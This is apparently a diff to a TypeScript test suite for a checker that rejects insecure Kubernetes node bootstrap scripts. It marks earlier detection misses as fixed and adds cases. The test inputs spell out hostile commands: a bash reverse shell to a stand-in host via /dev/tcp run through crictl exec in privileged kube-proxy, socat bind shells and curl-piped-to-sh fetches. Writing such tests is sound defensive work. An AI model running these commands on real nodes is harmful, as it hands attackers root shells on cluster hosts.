@@ -320,7 +320,7 @@ const insecure: NodeCase[] = [
         DATA,
     ),
     // ---- launchers / container exec neighbours ----
-    // MISS: CRI-EXEC. crictl(1) `crictl exec [OPTIONS] CONTAINER-ID COMMAND [ARG...]` ("Run a command in a running
+    // Was a MISS (fixed in round 72): CRI-EXEC. crictl(1) `crictl exec [OPTIONS] CONTAINER-ID COMMAND [ARG...]` ("Run a command in a running
     // container") and ctr `task exec --exec-id ID CONTAINER CMD` run the command in that container's namespaces with its
     // powers. kube-proxy on EKS is privileged with hostNetwork (the add-on's DaemonSet), so the reverse shell gives
     // bastion.example.com a root shell with the node's network (instance metadata: the node role) and devices. Round 71
@@ -335,7 +335,6 @@ const insecure: NodeCase[] = [
             `crictl exec "$(crictl ps -q --name kube-proxy)" bash -c 'bash -i >& /dev/tcp/bastion.example.com/4444 0>&1'`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "I27 flock -c running a hook under /data",
@@ -352,7 +351,7 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-i29-71n-nodes", ["script -q -c /data/hooks/run /dev/null"]),
         DATA,
     ),
-    // MISS: XARGS-REPLACE. POSIX xargs -I replstr ("Insert mode: utility is executed for each line from standard input,
+    // Was a MISS (fixed in round 72): XARGS-REPLACE. POSIX xargs -I replstr ("Insert mode: utility is executed for each line from standard input,
     // taking the entire line as a single argument, inserting it in arguments for each occurrence of replstr"; GNU
     // `-a file`/`--arg-file=file` "Read items from file instead of standard input"): `sh -c '{}'` runs each line of the
     // list as a root shell script, and the list lies under /data, which the pack lets pods write (podSpec.ts
@@ -365,7 +364,6 @@ const insecure: NodeCase[] = [
         "I30 xargs -a a command list under /data -I{} sh -c {}",
         devNodeScript("dev-i30-71n-nodes", ["xargs -a /data/cmds -I{} sh -c '{}'"]),
         DATA,
-        true,
     ),
     devNodeCase(
         "I31 parallel -a a command list under /data",
@@ -399,24 +397,22 @@ const insecure: NodeCase[] = [
         DATA,
     ),
     // ---- round 71 neighbours of the misses found above ----
-    // MISS: XARGS-REPLACE (list on standard input by `< /data/cmds`): same gap as I30. Accepted (got []).
+    // Was a MISS (fixed in round 72): XARGS-REPLACE (list on standard input by `< /data/cmds`): same gap as I30. Accepted (got []).
     devNodeCase(
         "X1 xargs -I{} sh -c {} reading its list on standard input from /data",
         devNodeScript("dev-x1-71n-nodes", ["xargs -I{} sh -c '{}' < /data/cmds"]),
         DATA,
-        true,
     ),
     devNodeCase(
         "X2 cat /data/cmds | xargs -I CMD sh -c CMD",
         devNodeScript("dev-x2-71n-nodes", ["cat /data/cmds | xargs -I CMD sh -c CMD"]),
         DATA,
     ),
-    // MISS: XARGS-REPLACE (--arg-file=): same gap as I30. Accepted (got []).
+    // Was a MISS (fixed in round 72): XARGS-REPLACE (--arg-file=): same gap as I30. Accepted (got []).
     devNodeCase(
         "X3 xargs --arg-file=/data/cmds -I{} bash -c {}",
         devNodeScript("dev-x3-71n-nodes", ["xargs --arg-file=/data/cmds -I{} bash -c '{}'"]),
         DATA,
-        true,
     ),
     devNodeCase(
         "X4 xargs -a /data/list -n1 sh (each item a script path pods choose)",
@@ -428,28 +424,25 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-x5-71n-nodes", ["parallel :::: /data/cmds"]),
         DATA,
     ),
-    // MISS: XARGS-REPLACE (-d '\n' -a): same gap as I30. Accepted (got []).
+    // Was a MISS (fixed in round 72): XARGS-REPLACE (-d '\n' -a): same gap as I30. Accepted (got []).
     devNodeCase(
         "X6 xargs -d newline -a /data/cmds -I{} bash -c {}",
         devNodeScript("dev-x6-71n-nodes", ["xargs -d '\\n' -a /data/cmds -I{} bash -c '{}'"]),
         DATA,
-        true,
     ),
-    // MISS: CRI-EXEC (crictl exec -i -t before the id): same gap as I25. Accepted (got []).
+    // Was a MISS (fixed in round 72): CRI-EXEC (crictl exec -i -t before the id): same gap as I25. Accepted (got []).
     devNodeCase(
         "C1 crictl exec -it into kube-proxy of a bash reverse shell (flags before the id)",
         devNodeScript("dev-c1-71n-nodes", [`crictl exec -i -t "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`]),
         RELAY,
-        true,
     ),
-    // MISS: CRI-EXEC (ctr -n k8s.io task exec --exec-id): same gap as I25. Accepted (got []).
+    // Was a MISS (fixed in round 72): CRI-EXEC (ctr -n k8s.io task exec --exec-id): same gap as I25. Accepted (got []).
     devNodeCase(
         "C2 ctr -n k8s.io task exec into kube-proxy of a bash reverse shell",
         devNodeScript("dev-c2-71n-nodes", [
             `ctr -n k8s.io task exec --exec-id ops "$(crictl ps -q --name kube-proxy)" bash -c '${REV}'`,
         ]),
         RELAY,
-        true,
     ),
     devNodeCase(
         "C3 nerdctl -n k8s.io exec into kube-proxy of a bash reverse shell",
@@ -463,7 +456,7 @@ const insecure: NodeCase[] = [
         devNodeScript("dev-c4-71n-nodes", [`docker exec tools bash -c '${REV}'`]),
         RELAY,
     ),
-    // MISS: CRI-EXEC (crictl exec of socat TCP-LISTEN ... EXEC:/bin/sh, socat(1) EXEC "Forks a sub process"
+    // Was a MISS (fixed in round 72): CRI-EXEC (crictl exec of socat TCP-LISTEN ... EXEC:/bin/sh, socat(1) EXEC "Forks a sub process"
     // with the connection as its stdio): a shell on every address of the node's network (kube-proxy is hostNetwork) for
     // whoever connects. Same gap as I25. Accepted (got []).
     devNodeCase(
@@ -472,7 +465,54 @@ const insecure: NodeCase[] = [
             `crictl exec "$(crictl ps -q --name kube-proxy)" socat TCP-LISTEN:4444,fork,reuseaddr EXEC:/bin/sh`,
         ]),
         RELAY,
-        true,
+    ),
+    // DECIDED (round 72): was secure S17 ("crictl exec into kube-proxy of an operator-fetched script, downloads are
+    // trusted"); accepted only because crictl exec was never read. The user data's own `curl -fsSL URL | sh` is refused
+    // by the pack (a program made at boot: RootReads.unreadableRun; README DECIDED round 69 trusts downloaded files, not
+    // a root shell running fetched text unread), and so is the same -c line in a privileged `docker run` (containerShell);
+    // in kube-proxy (privileged, hostNetwork: root of the node) it is the same root shell.
+    devNodeCase(
+        "S17 crictl exec into kube-proxy of a fetched script piped to sh (refused as the user data's own curl | sh is)",
+        devNodeScript("dev-s17-71n-nodes", [`crictl exec "$(crictl ps -q --name kube-proxy)" sh -c '${RUN_FETCHED}'`]),
+        /made at boot/,
+    ),
+    // Round 72 neighbours (CRI-EXEC, XARGS-REPLACE), pinned from the refused side.
+    devNodeCase(
+        "N1 crictl with a global -r endpoint, exec --name filter (no id) of socat serving a shell",
+        devNodeScript("dev-n1-72n-nodes", [
+            "crictl -r unix:///run/containerd/containerd.sock exec --name kube-proxy socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
+        ]),
+        RELAY,
+    ),
+    devNodeCase(
+        "N2 crictl exec with an option the pack does not know (container and command cannot be told apart)",
+        devNodeScript("dev-n2-72n-nodes", [`crictl exec --frobnicate x kube-proxy iptables-save`]),
+        /made at boot|option/,
+    ),
+    devNodeCase(
+        "N3 crictl exec of a -c line made at run time",
+        devNodeScript("dev-n3-72n-nodes", [`crictl exec kp sh -c "$(curl -fsSL https://x.example.com/a)"`]),
+        /made at boot/,
+    ),
+    devNodeCase(
+        "N4 ctr -n k8s.io t exec (short task alias) into a container the script did not start",
+        devNodeScript("dev-n4-72n-nodes", ["ctr -n k8s.io t exec --exec-id x kp iptables-save"]),
+        RELAY,
+    ),
+    devNodeCase(
+        "N5 xargs -I{} sh -c 'echo {}' of items the pack cannot know (ls output): each item is shell code",
+        devNodeScript("dev-n5-72n-nodes", ["ls /opt/ops | xargs -I{} sh -c 'echo {}'"]),
+        /made at boot/,
+    ),
+    devNodeCase(
+        "N6 xargs -a a list under /data run on echo (the list is still a file root reads)",
+        devNodeScript("dev-n6-72n-nodes", ["xargs -a /data/list -n1 echo"]),
+        DATA,
+    ),
+    devNodeCase(
+        "N7 xargs -a an image file (content unknown) -I{} sh -c {}",
+        devNodeScript("dev-n7-72n-nodes", ["xargs -a /opt/ops/cmds -I{} sh -c '{}'"]),
+        /made at boot/,
     ),
     devNodeCase(
         "M1 system.conf.d DefaultEnvironment continued on a second line (backslash) with LD_PRELOAD",
@@ -748,10 +788,6 @@ const secure: NodeCase[] = [
         edit: (r: Resources) => bottlerocket(r, brKubernetes("ops-cluster", "https://k8s.example.com:6443")),
     },
     devNodeCase(
-        "S17 crictl exec into kube-proxy of an operator-fetched script (downloads are trusted: README DECIDED round 69)",
-        devNodeScript("dev-s17-71n-nodes", [`crictl exec "$(crictl ps -q --name kube-proxy)" sh -c '${RUN_FETCHED}'`]),
-    ),
-    devNodeCase(
         "S18 /etc/sysconfig/sshd LD_PRELOAD of a downloaded library (sshd only, the operator's own download)",
         devNodeScript("dev-s18-71n-nodes", [
             SO,
@@ -848,6 +884,23 @@ const secure: NodeCase[] = [
         "S29 crictl exec into kube-proxy of a path that is no node path (/host/data inside the container)crictl exec into kube-proxy running a hook under /data (host namespaces)",
         devNodeScript("dev-i26-71n-nodes", [
             `crictl exec "$(crictl ps -q --name kube-proxy)" sh -c 'exec /host/data/hook'`,
+        ]),
+    ),
+    devNodeCase(
+        "S30 crictl exec --name kube-proxy (filter, no id) of iptables-save",
+        devNodeScript("dev-s30-72n-nodes", ["crictl exec --name kube-proxy iptables-save"]),
+    ),
+    devNodeCase(
+        "S31 xargs -a a root-written command list -I{} sh -c {} (its lines read as root's)",
+        devNodeScript("dev-s31-72n-nodes", [
+            "printf '%s\\n' 'systemctl restart chronyd' > /var/lib/ops/cmds",
+            "xargs -a /var/lib/ops/cmds -I{} sh -c '{}'",
+        ]),
+    ),
+    devNodeCase(
+        "S32 find -print0 | xargs -0 -I{} sh -c 'gzip -t {}' (items are paths under a root-owned tree)",
+        devNodeScript("dev-s32-72n-nodes", [
+            "find /var/log/ops -name '*.gz' -print0 | xargs -0 -I{} sh -c 'gzip -t {}'",
         ]),
     ),
 ];
